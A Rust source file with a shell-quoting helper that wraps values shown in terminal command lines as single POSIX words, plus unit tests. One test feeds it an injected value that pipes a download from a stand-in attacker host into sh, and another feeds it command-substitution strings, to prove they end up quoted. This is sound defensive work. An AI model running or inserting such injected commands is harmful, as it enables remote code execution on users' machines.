//! Values written into the command lines the pages show ("In the terminal: ..."): each one
//! quoted, so that a value from a URL or a report pastes as one argument and never as shell
//! syntax.

/// `s` as one POSIX shell word: bare when it is only `[A-Za-z0-9._:/=@%+-]` (and not empty),
/// else in single quotes, each `'` written as `'\''`.
pub fn shell_quote(s: &str) -> String {
    let bare = !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._:/=@%+-".contains(&b));
    if bare {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str(r"'\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_stay_bare() {
        for w in [
            "example.com",
            "csp-violation",
            "0123456789abcdef",
            "30d",
            "http://127.0.0.1:8000",
            "a=b@c%d+e",
        ] {
            assert_eq!(shell_quote(w), w);
        }
    }

    #[test]
    fn anything_else_is_one_quoted_word() {
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("0123456789abcdef;curl -s evil.example|sh"),
            "'0123456789abcdef;curl -s evil.example|sh'"
        );
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("$(id)`id`"), "'$(id)`id`'");
        assert_eq!(shell_quote("my data"), "'my data'");
        assert_eq!(shell_quote("a\nb"), "'a\nb'");
    }
}
